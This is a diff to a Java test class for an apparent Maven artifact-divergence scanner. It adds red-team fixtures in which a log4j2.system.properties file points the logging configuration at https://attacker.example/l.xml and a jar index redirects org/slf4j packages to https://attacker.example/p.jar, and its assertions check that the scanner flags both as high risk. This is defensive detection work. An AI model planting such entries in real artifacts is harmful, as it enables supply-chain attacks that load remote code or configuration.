@@ -443,6 +443,8 @@ class MavenScanTest {
                 + "</configuration>\n"));
         jar.put("log4j2.xml", utf8("<Configuration><Scripts><Script name=\"s\" language=\"js\">x</Script>"
                 + "</Scripts></Configuration>\n"));
+        // red team round 7 (case17): log4j-api sets system properties from it at start-up
+        jar.put("log4j2.system.properties", utf8("log4j2.configurationFile=https://attacker.example/l.xml\n"));
         ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
         FileDivergence changed = row(a, "logback.xml");
         assertEquals(FileStatus.MODIFIED, changed.status());
@@ -451,6 +453,9 @@ class MavenScanTest {
         FileDivergence added = row(a, "log4j2.xml");
         assertEquals(FileStatus.PHANTOM, added.status());
         assertTrue(added.highRisk());
+        FileDivergence system = row(a, "log4j2.system.properties");
+        assertTrue(system.riskFlags().contains(dev.divergence.model.RiskFlag.AUTO_EXEC), system.toString());
+        assertTrue(system.highRisk());
         assertEquals(Verdict.HIGH_RISK, a.verdict());
     }
 
@@ -1347,6 +1352,27 @@ class MavenScanTest {
             assertEquals(FileStatus.GENERATED, f.status(), p + " " + f.detail());
         }
         assertEquals(Verdict.EXPLAINED, a.verdict(), classes.keySet().toString());
+    }
+
+    @Test
+    void aJarIndexNamingOnlyThisJarIsGeneratedAndOneSendingPackagesElsewhereIsNot() throws Exception {
+        // red team round 7 (case9): URLClassPath loads a listed package from the jar the index names, URLs included
+        String greeter = "package org.acme;\n\npublic class Greeter {\n    public String greet() { return \"hi\"; }\n}\n";
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Greeter.java", greeter), "--release", "11");
+        Map<String, byte[]> jar = new LinkedHashMap<>(classes);
+        jar.put("META-INF/INDEX.LIST", utf8("JarIndex-Version: 1.0\n\nacme-core-3.0.0.jar\norg\norg/acme\n\n"));
+        FileDivergence own = row(artifact(scanJar(greeterTree("org/acme/Greeter.java", greeter), "3.0.0", jar), ".jar"),
+                "META-INF/INDEX.LIST");
+        assertEquals(MavenGeneratedFiles.JAR_INDEX, own.ruleId(), own.toString());
+        jar.put("META-INF/INDEX.LIST", utf8("JarIndex-Version: 1.0\n\nacme-core-3.0.0.jar\norg/acme\n\n"
+                + "https://attacker.example/p.jar\norg/slf4j\norg/slf4j/impl\n\n"));
+        ArtifactReport a = artifact(scanPublished(java.nio.file.Files.createTempDirectory(dir, "index"),
+                greeterTree("org/acme/Greeter.java", greeter), "3.0.0", Map.of(".pom", greeterTree().get("pom.xml"),
+                        ".jar", LocalMaven.jar(jar))), ".jar");
+        FileDivergence other = row(a, "META-INF/INDEX.LIST");
+        assertEquals(MavenGeneratedFiles.JAR_INDEX_OTHER_JAR, other.ruleId(), other.toString());
+        assertTrue(other.highRisk());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
     }
 
     /**
